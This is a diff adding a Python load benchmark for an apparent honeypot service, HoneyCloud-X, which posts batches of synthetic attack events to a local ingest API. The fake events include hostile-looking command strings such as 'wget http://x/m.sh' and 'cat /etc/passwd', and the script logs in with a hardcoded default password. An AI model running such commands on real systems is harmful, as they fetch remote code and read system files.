@@ -0,0 +1,93 @@
+"""
+Bulk ingest benchmark for HoneyCloud-X
+Starts the API, logs in, then has many concurrent local senders post
+NDJSON batches to /api/ingest and reports sustained events/sec.
+
+Run from backend/:
+    python -m benchmarks.bench_ingest [senders] [batches_per_sender] [batch_size]
+"""
+import json
+import os
+import random
+import subprocess
+import sys
+import threading
+import time
+import urllib.parse
+import urllib.request
+
+from .bench_cold_start import PORT, TIMEOUT, _wait_for
+
+BASE_URL = f"http://127.0.0.1:{PORT}"
+
+
+def login() -> str:
+    data = urllib.parse.urlencode({"username": "admin", "password": "admin123"}).encode()
+    with urllib.request.urlopen(f"{BASE_URL}/auth/login", data=data, timeout=30) as response:
+        return json.loads(response.read())["access_token"]
+
+
+def make_batch(size: int, rng: random.Random) -> bytes:
+    lines = []
+    for _ in range(size):
+        lines.append(json.dumps({
+            "source_ip": f"198.51.{rng.randint(0, 255)}.{rng.randint(1, 254)}",
+            "source_port": rng.randint(1024, 65535),
+            "service": rng.choice(["ssh", "ftp", "http"]),
+            "username": rng.choice(["root", "admin", "ubuntu", "pi"]),
+            "password": rng.choice(["123456", "password", "admin", "toor"]),
+            "command": rng.choice(["ls", "uname -a", "wget http://x/m.sh", "cat /etc/passwd"]),
+        }))
+    return "\n".join(lines).encode()
+
+
+def sender(token: str, batches: int, size: int, seed: int, results: list):
+    rng = random.Random(seed)
+    body = make_batch(size, rng)
+    accepted = 0
+    for _ in range(batches):
+        request = urllib.request.Request(
+            f"{BASE_URL}/api/ingest",
+            data=body,
+            headers={"Authorization": f"Bearer {token}", "Content-Type": "application/x-ndjson"},
+        )
+        with urllib.request.urlopen(request, timeout=60) as response:
+            accepted += json.loads(response.read())["accepted"]
+    results.append(accepted)
+
+
+def main():
+    senders = int(sys.argv[1]) if len(sys.argv) > 1 else 16
+    batches = int(sys.argv[2]) if len(sys.argv) > 2 else 10
+    size = int(sys.argv[3]) if len(sys.argv) > 3 else 1000
+
+    proc = subprocess.Popen(
+        [sys.executable, "-m", "uvicorn", "app.main:app", "--port", str(PORT), "--log-level", "warning"],
+        cwd=os.path.dirname(os.path.dirname(os.path.abspath(__file__))),
+        env=dict(os.environ, HONEYCLOUD_ALERTS="0"),
+    )
+    try:
+        _wait_for(f"{BASE_URL}/ready", time.perf_counter() + TIMEOUT)
+        token = login()
+        results = []
+        threads = [
+            threading.Thread(target=sender, args=(token, batches, size, seed, results))
+            for seed in range(senders)
+        ]
+        start = time.perf_counter()
+        for t in threads:
+            t.start()
+        for t in threads:
+            t.join()
+        elapsed = time.perf_counter() - start
+    finally:
+        proc.terminate()
+        proc.wait()
+
+    total = sum(results)
+    print(f"senders: {senders}, batches/sender: {batches}, batch size: {size}")
+    print(f"accepted {total} events in {elapsed:.2f}s -> {total / elapsed:,.0f} events/sec")
+
+
+if __name__ == "__main__":
+    main()